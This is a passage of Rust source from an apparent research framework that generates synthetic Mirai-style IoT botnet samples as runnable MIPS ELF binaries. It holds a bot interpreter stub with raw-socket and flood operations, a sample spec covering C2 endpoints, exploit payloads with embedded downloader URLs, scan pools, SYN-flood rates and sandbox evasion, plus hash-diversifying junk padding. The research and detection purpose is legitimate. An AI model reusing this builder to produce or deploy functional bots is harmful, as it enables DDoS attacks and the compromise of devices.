        (10, "op_shl"),
        (11, "op_mod"),
        (12, "op_jmp"),
        (13, "op_jeq"),
        (14, "op_jne"),
        (15, "op_jlt"),
        (16, "op_rand"),
        (17, "op_sleepms"),
        (18, "op_sleepr"),
        (19, "op_socket"),
        (20, "op_connect"),
        (21, "op_send"),
        (22, "op_sendr"),
        (23, "op_recv"),
        (24, "op_close"),
        (25, "op_abort"),
        (26, "op_sendto"),
        (27, "op_sendtor"),
        (28, "op_recvfrom"),
        (29, "op_ldb"),
        (30, "op_ldw"),
        (31, "op_stb"),
        (32, "op_cpy"),
        (33, "op_parseip"),
        (34, "op_parsenum"),
        (35, "op_skipsp"),
        (36, "op_match"),
        (37, "op_rawsend"),
    ];
    for (code, label) in ops {
        g.i(Ins::Li(Reg::T9, u32::from(code)));
        g.i(Ins::Beq(Reg::T8, Reg::T9, Target::Label(label.to_string())));
    }
    // Unknown opcode: treat as fatal (exit 126) — a corrupted program.
    g.i(Ins::Li(Reg::A0, 126));
    g.sys(sys::NR_EXIT);

    // ---- op handlers ----

    g.lab("op_end");
    g.i(Ins::Move(Reg::A0, Reg::ZERO));
    g.sys(sys::NR_EXIT);
    g.i(Ins::J("op_end".into())); // not reached

    g.lab("op_ldi");
    g.f_r();
    g.f_a();
    g.vreg_write(Reg::T0, Reg::T3);
    g.advance();

    g.lab("op_mov");
    g.f_r();
    g.f_x();
    g.vreg_read(Reg::T6, Reg::T1);
    g.vreg_write(Reg::T0, Reg::T6);
    g.advance();

    // Binary ALU ops share a fetch prologue.
    for (label, body) in [
        ("op_add", Ins::Addu(Reg::T6, Reg::T6, Reg::T7)),
        ("op_sub", Ins::Subu(Reg::T6, Reg::T6, Reg::T7)),
        ("op_and", Ins::And(Reg::T6, Reg::T6, Reg::T7)),
        ("op_or", Ins::Or(Reg::T6, Reg::T6, Reg::T7)),
    ] {
        g.lab(label);
        g.f_r();
        g.f_x();
        g.f_y();
        g.vreg_read(Reg::T6, Reg::T1);
        g.vreg_read(Reg::T7, Reg::T2);
        g.i(body);
        g.vreg_write(Reg::T0, Reg::T6);
        g.advance();
    }

    g.lab("op_mul");
    g.f_r();
    g.f_x();
    g.f_y();
    g.vreg_read(Reg::T6, Reg::T1);
    g.vreg_read(Reg::T7, Reg::T2);
    g.i(Ins::Multu(Reg::T6, Reg::T7));
    g.i(Ins::Mflo(Reg::T6));
    g.vreg_write(Reg::T0, Reg::T6);
    g.advance();

    g.lab("op_mod");
    g.f_r();
    g.f_x();
    g.f_y();
    g.vreg_read(Reg::T6, Reg::T1);
    g.vreg_read(Reg::T7, Reg::T2);
    // Guard y == 0: result 0 rather than a divide fault.
    let zero_l = g.sym("mod_zero");
    let done_l = g.sym("mod_done");
    g.i(Ins::Beq(Reg::T7, Reg::ZERO, zero_l.as_str().into()));
    g.i(Ins::Divu(Reg::T6, Reg::T7));
    g.i(Ins::Mfhi(Reg::T6));
    g.i(Ins::J(done_l.as_str().into()));
    g.lab(&zero_l);
    g.i(Ins::Move(Reg::T6, Reg::ZERO));
    g.lab(&done_l);
    g.vreg_write(Reg::T0, Reg::T6);
    g.advance();

    g.lab("op_addi");
    g.f_r();
    g.f_x();
    g.f_a();
    g.vreg_read(Reg::T6, Reg::T1);
    g.i(Ins::Addu(Reg::T6, Reg::T6, Reg::T3));
    g.vreg_write(Reg::T0, Reg::T6);
    g.advance();

    g.lab("op_shr");
    g.f_r();
    g.f_x();
    g.f_a();
    g.vreg_read(Reg::T6, Reg::T1);
    g.i(Ins::Srlv(Reg::T6, Reg::T6, Reg::T3));
    g.vreg_write(Reg::T0, Reg::T6);
    g.advance();

    g.lab("op_shl");
    g.f_r();
    g.f_x();
    g.f_a();
    g.vreg_read(Reg::T6, Reg::T1);
    g.i(Ins::Sllv(Reg::T6, Reg::T6, Reg::T3));
    g.vreg_write(Reg::T0, Reg::T6);
    g.advance();

    g.lab("op_jmp");
    g.f_a();
    g.i(Ins::Sll(Reg::S3, Reg::T3, 4));
    g.i(Ins::J("main_loop".into()));

    // Conditional jumps: compute condition into t6 (1 = taken).
    for (label, is_jlt, invert) in [
        ("op_jeq", false, false),
        ("op_jne", false, true),
        ("op_jlt", true, false),
    ] {
        g.lab(label);
        g.f_x();
        g.f_y();
        g.f_a();
        g.vreg_read(Reg::T6, Reg::T1);
        g.vreg_read(Reg::T7, Reg::T2);
        let taken = g.sym("j_taken");
        if is_jlt {
            g.i(Ins::Sltu(Reg::T8, Reg::T6, Reg::T7));
            g.i(Ins::Bne(Reg::T8, Reg::ZERO, taken.as_str().into()));
        } else if invert {
            g.i(Ins::Bne(Reg::T6, Reg::T7, taken.as_str().into()));
        } else {
            g.i(Ins::Beq(Reg::T6, Reg::T7, taken.as_str().into()));
        }
        g.advance(); // fall through
        g.lab(&taken);
        g.i(Ins::Sll(Reg::S3, Reg::T3, 4));
        g.i(Ins::J("main_loop".into()));
    }

    g.lab("op_rand");
    g.f_r();
    g.i(Ins::Addiu(Reg::A0, Reg::S4, RAND_OFF));
    g.i(Ins::Li(Reg::A1, 4));
    g.i(Ins::Move(Reg::A2, Reg::ZERO));
    g.sys(sys::NR_GETRANDOM);
    g.i(Ins::Lw(Reg::T6, Reg::S4, RAND_OFF));
    g.vreg_write(Reg::T0, Reg::T6);
    g.advance();

    // Sleep: milliseconds in t6 → timespec {secs, nanos} → nanosleep.
    for (label, fetch_ms) in [("op_sleepms", true), ("op_sleepr", false)] {
        g.lab(label);
        if fetch_ms {
            g.f_a();
            g.i(Ins::Move(Reg::T6, Reg::T3));
        } else {
            g.f_x();
            g.vreg_read(Reg::T6, Reg::T1);
        }
        g.i(Ins::Li(Reg::T7, 1000));
        g.i(Ins::Divu(Reg::T6, Reg::T7));
        g.i(Ins::Mflo(Reg::T8)); // secs
        g.i(Ins::Mfhi(Reg::T9)); // ms remainder
        g.i(Ins::Sw(Reg::T8, Reg::S4, TIMESPEC_OFF));
        g.i(Ins::Li(Reg::T7, 1_000_000));
        g.i(Ins::Multu(Reg::T9, Reg::T7));
        g.i(Ins::Mflo(Reg::T9));
        g.i(Ins::Sw(Reg::T9, Reg::S4, TIMESPEC_OFF + 4));
        g.i(Ins::Addiu(Reg::A0, Reg::S4, TIMESPEC_OFF));
        g.i(Ins::Move(Reg::A1, Reg::ZERO));
        g.sys(sys::NR_NANOSLEEP);
        g.advance();
    }

    g.lab("op_socket");
    g.f_r();
    g.f_x();
    g.i(Ins::Li(Reg::A0, sys::AF_INET));
    // kind 0 → (STREAM, 0); 1 → (DGRAM, 0); 2 → (RAW, 6); 3 → (RAW, 1)
    let s_udp = g.sym("sock_udp");
    let s_rawtcp = g.sym("sock_rawtcp");
    let s_rawicmp = g.sym("sock_rawicmp");
    let s_go = g.sym("sock_go");
    g.i(Ins::Li(Reg::T9, 1));
    g.i(Ins::Beq(Reg::T1, Reg::T9, s_udp.as_str().into()));
    g.i(Ins::Li(Reg::T9, 2));
    g.i(Ins::Beq(Reg::T1, Reg::T9, s_rawtcp.as_str().into()));
    g.i(Ins::Li(Reg::T9, 3));
    g.i(Ins::Beq(Reg::T1, Reg::T9, s_rawicmp.as_str().into()));
    g.i(Ins::Li(Reg::A1, sys::SOCK_STREAM));
    g.i(Ins::Move(Reg::A2, Reg::ZERO));
    g.i(Ins::J(s_go.as_str().into()));
    g.lab(&s_udp);
    g.i(Ins::Li(Reg::A1, sys::SOCK_DGRAM));
    g.i(Ins::Move(Reg::A2, Reg::ZERO));
    g.i(Ins::J(s_go.as_str().into()));
    g.lab(&s_rawtcp);
    g.i(Ins::Li(Reg::A1, sys::SOCK_RAW));
    g.i(Ins::Li(Reg::A2, 6));
    g.i(Ins::J(s_go.as_str().into()));
    g.lab(&s_rawicmp);
    g.i(Ins::Li(Reg::A1, sys::SOCK_RAW));
    g.i(Ins::Li(Reg::A2, 1));
    g.lab(&s_go);
    g.sys(sys::NR_SOCKET);
    g.vreg_write(Reg::T0, Reg::V0);
    g.advance();

    g.lab("op_connect");
    g.f_r();
    g.f_x();
    g.f_y();
    g.f_a();
    g.f_b();
    g.vreg_read(Reg::T6, Reg::T2); // ip
                                   // port: a != 0 ? a : vreg[b]
    let port_imm = g.sym("conn_port_imm");
    let port_done = g.sym("conn_port_done");
    g.i(Ins::Bne(Reg::T3, Reg::ZERO, port_imm.as_str().into()));
    g.vreg_read(Reg::T7, Reg::T4);
    g.i(Ins::J(port_done.as_str().into()));
    g.lab(&port_imm);
    g.i(Ins::Move(Reg::T7, Reg::T3));
    g.lab(&port_done);
    g.sockaddr(Reg::T6, Reg::T7);
    g.vreg_read(Reg::A0, Reg::T1); // fd
    g.i(Ins::Addiu(Reg::A1, Reg::S4, SOCKADDR_OFF));
    g.i(Ins::Li(Reg::A2, sys::SOCKADDR_LEN));
    g.sys(sys::NR_CONNECT);
    g.f_r(); // t0 may be clobbered by vreg_read's $at usage? re-fetch to be safe
    g.vreg_write(Reg::T0, Reg::V0);
    g.advance();

    g.lab("op_send");
    g.f_x();
    g.f_a();
    g.f_b();
    g.vreg_read(Reg::A0, Reg::T1);
    g.i(Ins::Addu(Reg::A1, Reg::S5, Reg::T3));
    g.i(Ins::Move(Reg::A2, Reg::T4));
    g.i(Ins::Move(Reg::A3, Reg::ZERO));
    g.sys(sys::NR_SEND);
    g.advance();

    g.lab("op_sendr");
    g.f_x();
    g.f_y();
    g.f_b();
    g.vreg_read(Reg::A0, Reg::T1);
    g.vreg_read(Reg::T6, Reg::T2); // rbuf offset
    g.rbuf_addr(Reg::A1, Reg::T6);
    g.vreg_read(Reg::A2, Reg::T4); // len from vreg[b]
    g.i(Ins::Move(Reg::A3, Reg::ZERO));
    g.sys(sys::NR_SEND);
    g.advance();

    for (label, nr) in [("op_recv", sys::NR_RECV), ("op_recvfrom", sys::NR_RECVFROM)] {
        g.lab(label);
        g.f_r();
        g.f_x();
        g.f_a();
        g.vreg_read(Reg::A0, Reg::T1);
        g.rbuf_addr(Reg::A1, Reg::ZERO);
        g.i(Ins::Li(Reg::A2, u32::from(crate::botvm::RBUF_SIZE as u16)));
        g.i(Ins::Move(Reg::A3, Reg::T3)); // timeout ms (extension)
        g.sys(nr);
        g.f_r();
        g.vreg_write(Reg::T0, Reg::V0);
        g.advance();
    }

    g.lab("op_close");
    g.f_x();
    g.vreg_read(Reg::A0, Reg::T1);
    g.i(Ins::Move(Reg::A1, Reg::ZERO));
    g.sys(sys::NR_CLOSE);
    g.advance();

    g.lab("op_abort");
    g.f_x();
    g.vreg_read(Reg::A0, Reg::T1);
    g.i(Ins::Li(Reg::A1, 1)); // abortive close (RST)
    g.sys(sys::NR_CLOSE);
    g.advance();

    g.lab("op_sendto");
    g.f_r();
    g.f_x();
    g.f_y();
    g.f_a();
    g.f_b();
    g.f_c();
    g.vreg_read(Reg::T6, Reg::T2); // ip
                                   // port: a != 0 ? a : vreg[r]
    let st_imm = g.sym("st_port_imm");
    let st_done = g.sym("st_port_done");
    g.i(Ins::Bne(Reg::T3, Reg::ZERO, st_imm.as_str().into()));
    g.vreg_read(Reg::T7, Reg::T0);
    g.i(Ins::J(st_done.as_str().into()));
    g.lab(&st_imm);
    g.i(Ins::Move(Reg::T7, Reg::T3));
    g.lab(&st_done);
    g.sockaddr(Reg::T6, Reg::T7);
    g.sendto_stack_args();
    g.vreg_read(Reg::A0, Reg::T1);
    g.i(Ins::Addu(Reg::A1, Reg::S5, Reg::T4));
    g.i(Ins::Move(Reg::A2, Reg::T5));
    g.i(Ins::Move(Reg::A3, Reg::ZERO));
    g.sys(sys::NR_SENDTO);
    g.advance();

    g.lab("op_sendtor");
    g.f_r();
    g.f_x();
    g.f_y();
    g.f_a();
    g.f_b();
    g.vreg_read(Reg::T6, Reg::T2); // ip
    g.vreg_read(Reg::T7, Reg::T0); // port always from vreg[r]
    g.sockaddr(Reg::T6, Reg::T7);
    g.sendto_stack_args();
    g.vreg_read(Reg::A0, Reg::T1);
    g.i(Ins::Addiu(Reg::A1, Reg::S4, RBUF_OFF));
    g.i(Ins::Addu(Reg::A1, Reg::A1, Reg::T3));
    g.i(Ins::Move(Reg::A2, Reg::T4));
    g.i(Ins::Move(Reg::A3, Reg::ZERO));
    g.sys(sys::NR_SENDTO);
    g.advance();

    g.lab("op_ldb");
    g.f_r();
    g.f_x();
    g.vreg_read(Reg::T6, Reg::T1);
    g.rbuf_addr(Reg::T7, Reg::T6);
    g.i(Ins::Lbu(Reg::T6, Reg::T7, 0));
    g.vreg_write(Reg::T0, Reg::T6);
    g.advance();

    g.lab("op_ldw");
    g.f_r();
    g.f_x();
    g.vreg_read(Reg::T6, Reg::T1);
    g.rbuf_addr(Reg::T7, Reg::T6);
    // Big-endian compose from four byte loads (unaligned-safe).
    g.i(Ins::Lbu(Reg::T6, Reg::T7, 0));
    g.i(Ins::Sll(Reg::T6, Reg::T6, 8));
    g.i(Ins::Lbu(Reg::T8, Reg::T7, 1));
    g.i(Ins::Or(Reg::T6, Reg::T6, Reg::T8));
    g.i(Ins::Sll(Reg::T6, Reg::T6, 8));
    g.i(Ins::Lbu(Reg::T8, Reg::T7, 2));
    g.i(Ins::Or(Reg::T6, Reg::T6, Reg::T8));
    g.i(Ins::Sll(Reg::T6, Reg::T6, 8));
    g.i(Ins::Lbu(Reg::T8, Reg::T7, 3));
    g.i(Ins::Or(Reg::T6, Reg::T6, Reg::T8));
    g.vreg_write(Reg::T0, Reg::T6);
    g.advance();

    g.lab("op_stb");
    g.f_x();
    g.f_y();
    g.vreg_read(Reg::T6, Reg::T1); // pos
    g.vreg_read(Reg::T7, Reg::T2); // val
    g.rbuf_addr(Reg::T8, Reg::T6);
    g.i(Ins::Sb(Reg::T7, Reg::T8, 0));
    g.advance();

    g.lab("op_cpy");
    g.f_a();
    g.f_b();
    g.f_c();
    g.i(Ins::Addu(Reg::T6, Reg::S5, Reg::T3)); // src
    g.i(Ins::Addiu(Reg::T7, Reg::S4, RBUF_OFF));
    g.i(Ins::Addu(Reg::T7, Reg::T7, Reg::T5)); // dst
    let cpy_loop = g.sym("cpy_loop");
    let cpy_done = g.sym("cpy_done");
    g.lab(&cpy_loop);
    g.i(Ins::Beq(Reg::T4, Reg::ZERO, cpy_done.as_str().into()));
    g.i(Ins::Lbu(Reg::T8, Reg::T6, 0));
    g.i(Ins::Sb(Reg::T8, Reg::T7, 0));
    g.i(Ins::Addiu(Reg::T6, Reg::T6, 1));
    g.i(Ins::Addiu(Reg::T7, Reg::T7, 1));
    g.i(Ins::Addiu(Reg::T4, Reg::T4, -1));
    g.i(Ins::J(cpy_loop.as_str().into()));
    g.lab(&cpy_done);
    g.advance();

    // parse_num core: digits at rbuf[t6] → value t7, pos advanced in t6.
    // Emitted twice (for parseip groups we inline a loop with group
    // counting); shared via a local closure that appends the digit loop.
    let emit_digit_loop = |g: &mut Gen, loop_l: &str, done_l: &str| {
        // In: t6 = pos. Out: t7 = value, t6 advanced. Clobbers t8, t9.
        g.i(Ins::Move(Reg::T7, Reg::ZERO));
        g.lab(loop_l);
        g.rbuf_addr(Reg::T9, Reg::T6);
        g.i(Ins::Lbu(Reg::T8, Reg::T9, 0));
        g.i(Ins::Sltiu(Reg::T9, Reg::T8, 0x30)); // < '0'?
        g.i(Ins::Bne(Reg::T9, Reg::ZERO, done_l.into()));
        g.i(Ins::Sltiu(Reg::T9, Reg::T8, 0x3a)); // <= '9'?
        g.i(Ins::Beq(Reg::T9, Reg::ZERO, done_l.into()));
        g.i(Ins::Li(Reg::T9, 10));
        g.i(Ins::Multu(Reg::T7, Reg::T9));
        g.i(Ins::Mflo(Reg::T7));
        g.i(Ins::Addiu(Reg::T8, Reg::T8, -0x30));
        g.i(Ins::Addu(Reg::T7, Reg::T7, Reg::T8));
        g.i(Ins::Addiu(Reg::T6, Reg::T6, 1));
        g.i(Ins::J(loop_l.into()));
        g.lab(done_l);
    };

    g.lab("op_parsenum");
    g.f_r();
    g.f_x();
    g.vreg_read(Reg::T6, Reg::T1);
    let pn_loop = g.sym("pn_loop");
    let pn_done = g.sym("pn_done");
    emit_digit_loop(&mut g, &pn_loop, &pn_done);
    g.f_r();
    g.vreg_write(Reg::T0, Reg::T7);
    g.f_x();
    g.vreg_write(Reg::T1, Reg::T6);
    g.advance();

    g.lab("op_parseip");
    g.f_x();
    g.vreg_read(Reg::T6, Reg::T1);
    // t5 = accumulated ip, t4 = group counter
    g.i(Ins::Move(Reg::T5, Reg::ZERO));
    g.i(Ins::Move(Reg::T4, Reg::ZERO));
    let ip_group = g.sym("ip_group");
    let ip_fail = g.sym("ip_fail");
    let ip_ok = g.sym("ip_ok");
    let ip_store = g.sym("ip_store");
    g.lab(&ip_group);
    let ipd_loop = g.sym("ipd_loop");
    let ipd_done = g.sym("ipd_done");
    emit_digit_loop(&mut g, &ipd_loop, &ipd_done);
    // t7 = group value; accumulate.
    g.i(Ins::Sll(Reg::T5, Reg::T5, 8));
    g.i(Ins::Or(Reg::T5, Reg::T5, Reg::T7));
    g.i(Ins::Addiu(Reg::T4, Reg::T4, 1));
    g.i(Ins::Li(Reg::T9, 4));
    g.i(Ins::Beq(Reg::T4, Reg::T9, ip_ok.as_str().into()));
    // expect '.'
    g.rbuf_addr(Reg::T9, Reg::T6);
    g.i(Ins::Lbu(Reg::T8, Reg::T9, 0));
    g.i(Ins::Li(Reg::T9, 0x2e));
    g.i(Ins::Bne(Reg::T8, Reg::T9, ip_fail.as_str().into()));
    g.i(Ins::Addiu(Reg::T6, Reg::T6, 1));
    g.i(Ins::J(ip_group.as_str().into()));
    g.lab(&ip_fail);
    g.i(Ins::Move(Reg::T5, Reg::ZERO));
    g.lab(&ip_ok);
    g.i(Ins::J(ip_store.as_str().into()));
    g.lab(&ip_store);
    g.f_r();
    g.vreg_write(Reg::T0, Reg::T5);
    g.f_x();
    g.vreg_write(Reg::T1, Reg::T6);
    g.advance();

    g.lab("op_skipsp");
    g.f_x();
    g.vreg_read(Reg::T6, Reg::T1);
    let sp_loop = g.sym("sp_loop");
    let sp_done = g.sym("sp_done");
    g.lab(&sp_loop);
    g.rbuf_addr(Reg::T9, Reg::T6);
    g.i(Ins::Lbu(Reg::T8, Reg::T9, 0));
    g.i(Ins::Li(Reg::T9, 0x20));
    g.i(Ins::Bne(Reg::T8, Reg::T9, sp_done.as_str().into()));
    g.i(Ins::Addiu(Reg::T6, Reg::T6, 1));
    g.i(Ins::J(sp_loop.as_str().into()));
    g.lab(&sp_done);
    g.f_x();
    g.vreg_write(Reg::T1, Reg::T6);
    g.advance();

    g.lab("op_match");
    g.f_r();
    g.f_x();
    g.f_a();
    g.f_b();
    g.vreg_read(Reg::T6, Reg::T1); // pos
    g.rbuf_addr(Reg::T7, Reg::T6); // haystack ptr
    g.i(Ins::Addu(Reg::T6, Reg::S5, Reg::T3)); // needle ptr
    let m_loop = g.sym("m_loop");
    let m_no = g.sym("m_no");
    let m_yes = g.sym("m_yes");
    let m_end = g.sym("m_end");
    g.lab(&m_loop);
    g.i(Ins::Beq(Reg::T4, Reg::ZERO, m_yes.as_str().into()));
    g.i(Ins::Lbu(Reg::T8, Reg::T6, 0));
    g.i(Ins::Lbu(Reg::T9, Reg::T7, 0));
    g.i(Ins::Bne(Reg::T8, Reg::T9, m_no.as_str().into()));
    g.i(Ins::Addiu(Reg::T6, Reg::T6, 1));
    g.i(Ins::Addiu(Reg::T7, Reg::T7, 1));
    g.i(Ins::Addiu(Reg::T4, Reg::T4, -1));
    g.i(Ins::J(m_loop.as_str().into()));
    g.lab(&m_no);
    g.i(Ins::Move(Reg::T5, Reg::ZERO));
    g.i(Ins::J(m_end.as_str().into()));
    g.lab(&m_yes);
    g.i(Ins::Li(Reg::T5, 1));
    g.lab(&m_end);
    g.vreg_write(Reg::T0, Reg::T5);
    g.advance();

    g.lab("op_rawsend");
    g.f_x();
    g.f_y();
    g.f_a();
    g.f_b();
    g.vreg_read(Reg::T6, Reg::T2); // ip
    g.i(Ins::Move(Reg::T7, Reg::ZERO)); // port 0 (raw)
    g.sockaddr(Reg::T6, Reg::T7);
    g.sendto_stack_args();
    g.vreg_read(Reg::A0, Reg::T1);
    g.i(Ins::Addiu(Reg::A1, Reg::S4, RBUF_OFF));
    g.i(Ins::Addu(Reg::A1, Reg::A1, Reg::T3));
    g.i(Ins::Move(Reg::A2, Reg::T4));
    g.i(Ins::Move(Reg::A3, Reg::ZERO));
    g.sys(sys::NR_SENDTO);
    g.advance();

    g.a.assemble().expect("stub assembles")
}

#[cfg(test)]
mod tests {
    use super::*;
    use malnet_mips::dis;

    #[test]
    fn stub_assembles_and_is_substantial() {
        let code = build_stub();
        assert!(code.len().is_multiple_of(4));
        assert!(
            code.len() > 1500,
            "stub unexpectedly small: {} bytes",
            code.len()
        );
        // Fully decodable by our disassembler — no stray .word.
        let lines = dis::disassemble_all(&code, TEXT_BASE);
        let unknown: Vec<_> = lines.iter().filter(|l| l.contains(".word")).collect();
        assert!(unknown.is_empty(), "undecodable: {unknown:#?}");
    }

    #[test]
    fn stub_is_deterministic() {
        assert_eq!(build_stub(), build_stub());
    }

    #[test]
    fn stub_starts_with_config_load() {
        let code = build_stub();
        let lines = dis::disassemble_all(&code, TEXT_BASE);
        // First instruction materialises the rodata base.
        assert!(lines[0].contains("lui $s0, 0x1000"), "{}", lines[0]);
    }
}
