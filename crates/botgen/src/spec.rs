//! Behaviour specifications: everything that varies between samples.
//!
//! A [`BehaviorSpec`] is the generator-side description of one malware
//! sample: family, C2 endpoints, exploit arsenal, scan pool, attack rate
//! and evasion posture. [`crate::programs::compile`] lowers it to
//! bytecode; [`crate::binary::emit_elf`] wraps that into the ELF.

use std::net::Ipv4Addr;

use malnet_protocols::Family;

use crate::exploitdb::VulnId;

/// How a sample names its C2.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum C2Endpoint {
    /// Hard-coded IPv4 address.
    Ip(Ipv4Addr),
    /// DNS name resolved at run time.
    Domain(String),
}

impl std::fmt::Display for C2Endpoint {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            C2Endpoint::Ip(ip) => write!(f, "{ip}"),
            C2Endpoint::Domain(d) => write!(f, "{d}"),
        }
    }
}

/// One exploit in a sample's arsenal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExploitPlan {
    /// The vulnerability (catalogue row).
    pub vuln: VulnId,
    /// Downloader server embedded in the payload.
    pub downloader: Ipv4Addr,
    /// Loader filename embedded in the payload.
    pub loader: String,
    /// Use the full (two-CVE) GPON variant.
    pub full_gpon: bool,
}

impl ExploitPlan {
    /// Render the payload bytes.
    pub fn payload(&self) -> Vec<u8> {
        crate::exploitdb::payload(self.vuln, self.downloader, &self.loader, self.full_gpon)
    }

    /// Target port for this exploit.
    pub fn port(&self) -> u16 {
        self.vuln.info().port
    }
}

/// The complete behaviour description of one sample.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BehaviorSpec {
    /// Malware family (drives the C2 protocol).
    pub family: Family,
    /// C2 candidates tried in order (primary + fallbacks). Empty for
    /// P2P families.
    pub c2: Vec<(C2Endpoint, u16)>,
    /// Exploit arsenal fired at scan victims.
    pub exploits: Vec<ExploitPlan>,
    /// Base of the /16-ish pool the sample scans.
    pub scan_base: Ipv4Addr,
    /// Random-bits mask OR'd onto the base (e.g. `0xffff` for a /16).
    pub scan_mask: u32,
    /// Scan connect attempts per idle burst, per exploit.
    pub scan_burst: u32,
    /// Flood packet rate (packets/second).
    pub attack_pps: u32,
    /// Mirai SYN-flood variant: randomise source ports (the paper saw
    /// both same-port and multi-port variants).
    pub syn_multi_sport: bool,
    /// C2 receive timeout (idle cadence) in ms.
    pub recv_timeout_ms: u32,
    /// Sample checks Internet connectivity (DNS) and aborts if absent.
    pub evasive: bool,
    /// Peer list for P2P families (Mozi, Hajime).
    pub peers: Vec<(Ipv4Addr, u16)>,
    /// Resolver the sample hard-codes.
    pub resolver: Ipv4Addr,
    /// Per-sample identity (login ids, junk seed).
    pub bot_id: u32,
    /// Version banner embedded in the binary (real samples carry strings
    /// like `/bin/busybox MIRAI`); YARA-style family rules key on it.
    pub banner: String,
}

impl Default for BehaviorSpec {
    fn default() -> Self {
        BehaviorSpec {
            family: Family::Mirai,
            c2: Vec::new(),
            exploits: Vec::new(),
            scan_base: Ipv4Addr::new(100, 70, 0, 0),
            scan_mask: 0x0000_00ff,
            scan_burst: 3,
            attack_pps: 200,
            syn_multi_sport: true,
            recv_timeout_ms: 15_000,
            evasive: false,
            peers: Vec::new(),
            resolver: Ipv4Addr::new(8, 8, 8, 8),
            bot_id: 1,
            banner: "/bin/busybox MIRAI".to_string(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exploit_plan_renders_payload_with_downloader() {
        let plan = ExploitPlan {
            vuln: VulnId::MvpowerDvr,
            downloader: Ipv4Addr::new(10, 1, 0, 9),
            loader: "8UsA.sh".into(),
            full_gpon: true,
        };
        let p = plan.payload();
        assert!(String::from_utf8_lossy(&p).contains("10.1.0.9/8UsA.sh"));
        assert_eq!(plan.port(), 80);
    }

    #[test]
    fn endpoint_display() {
        assert_eq!(
            C2Endpoint::Ip(Ipv4Addr::new(1, 2, 3, 4)).to_string(),
            "1.2.3.4"
        );
        assert_eq!(
            C2Endpoint::Domain("cnc.example.net".into()).to_string(),
            "cnc.example.net"
        );
    }
}
