//! Synthetic malware binary emission: bytecode + blob → a genuine MIPS
//! ELF executable.
//!
//! Layout (see [`crate::stub`] for the address map):
//!
//! * `.text` — the shared interpreter stub.
//! * `.rodata` — the config header, the sample's bytecode program, and
//!   its data blob (C2 addresses, exploit payloads, protocol strings).
//!   Everything an analyst's `strings`/static pass would find in a real
//!   sample lives here.
//! * `.bss` — VM registers + RBUF, zero-filled at load.
//!
//! Each sample also receives a per-sample **junk pad** in `.rodata` so
//! that file hashes differ across samples of the same family — mirroring
//! the polymorphic re-packing of real feeds.

use malnet_mips::elf::{ElfFile, ElfSegment};

use crate::stub::{self, BSS_SIZE, CONFIG_MAGIC};

/// A compiled bot: bytecode plus blob, ready for wrapping.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BotProgram {
    /// Bytecode records ([`crate::botvm`] encoding).
    pub bytecode: Vec<u8>,
    /// Data blob referenced by blob offsets in the bytecode.
    pub blob: Vec<u8>,
}

/// Wrap a program into an ELF executable image.
///
/// `junk` is appended after the blob to diversify hashes; it is dead data
/// the program never references.
pub fn emit_elf(program: &BotProgram, junk: &[u8]) -> Vec<u8> {
    let header_len = 20u32;
    let bytecode_off = header_len;
    let blob_off = bytecode_off + program.bytecode.len() as u32;
    let mut rodata = Vec::with_capacity(
        header_len as usize + program.bytecode.len() + program.blob.len() + junk.len(),
    );
    rodata.extend_from_slice(CONFIG_MAGIC);
    rodata.extend_from_slice(&bytecode_off.to_be_bytes());
    rodata.extend_from_slice(&(program.bytecode.len() as u32).to_be_bytes());
    rodata.extend_from_slice(&blob_off.to_be_bytes());
    rodata.extend_from_slice(&(program.blob.len() as u32).to_be_bytes());
    rodata.extend_from_slice(&program.bytecode);
    rodata.extend_from_slice(&program.blob);
    rodata.extend_from_slice(junk);

    let text = stub::build_stub();
    let elf = ElfFile {
        entry: stub::TEXT_BASE,
        segments: vec![
            ElfSegment {
                vaddr: stub::TEXT_BASE,
                memsz: text.len() as u32,
                data: text,
                writable: false,
                executable: true,
                name: ".text",
            },
            ElfSegment {
                vaddr: stub::RODATA_BASE,
                memsz: rodata.len() as u32,
                data: rodata,
                writable: false,
                executable: false,
                name: ".rodata",
            },
            ElfSegment {
                vaddr: stub::BSS_BASE,
                data: vec![],
                memsz: BSS_SIZE,
                writable: true,
                executable: false,
                name: ".bss",
            },
        ],
    };
    elf.write()
}

/// Recover the bytecode and blob from an emitted ELF (static-analysis
/// side; also used by tests).
pub fn extract_program(elf_bytes: &[u8]) -> Option<BotProgram> {
    let elf = ElfFile::parse(elf_bytes).ok()?;
    let rodata = elf
        .segments
        .iter()
        .find(|s| !s.executable && !s.writable && !s.data.is_empty())?;
    let d = &rodata.data;
    if d.len() < 20 || &d[0..4] != CONFIG_MAGIC {
        return None;
    }
    let u32_at = |i: usize| u32::from_be_bytes([d[i], d[i + 1], d[i + 2], d[i + 3]]) as usize;
    let bc_off = u32_at(4);
    let bc_len = u32_at(8);
    let blob_off = u32_at(12);
    let blob_len = u32_at(16);
    Some(BotProgram {
        bytecode: d.get(bc_off..bc_off + bc_len)?.to_vec(),
        blob: d.get(blob_off..blob_off + blob_len)?.to_vec(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::botvm::{Op, ProgramBuilder};
    use malnet_mips::elf::ElfFile;

    fn tiny_program() -> BotProgram {
        let mut b = ProgramBuilder::new();
        let (off, len) = b.blob_str("http://10.1.0.5/t8UsA2.sh");
        b.op(Op::Ldi { r: 0, a: off })
            .op(Op::Ldi { r: 1, a: len })
            .op(Op::End);
        let (bytecode, blob) = b.build();
        BotProgram { bytecode, blob }
    }

    #[test]
    fn emit_and_extract_roundtrip() {
        let p = tiny_program();
        let elf = emit_elf(&p, b"JUNKJUNK");
        let q = extract_program(&elf).expect("extract");
        assert_eq!(p, q);
    }

    #[test]
    fn emitted_elf_is_valid_mips_exec() {
        let elf_bytes = emit_elf(&tiny_program(), &[]);
        let elf = ElfFile::parse(&elf_bytes).unwrap();
        assert_eq!(elf.entry, crate::stub::TEXT_BASE);
        assert_eq!(elf.segments.len(), 3);
        assert!(elf.segments[0].executable);
        assert_eq!(elf.segments[2].memsz, BSS_SIZE);
    }

    #[test]
    fn strings_pass_finds_iocs_in_emitted_binary() {
        let elf_bytes = emit_elf(&tiny_program(), &[]);
        let elf = ElfFile::parse(&elf_bytes).unwrap();
        let strings = elf.strings(8);
        assert!(
            strings
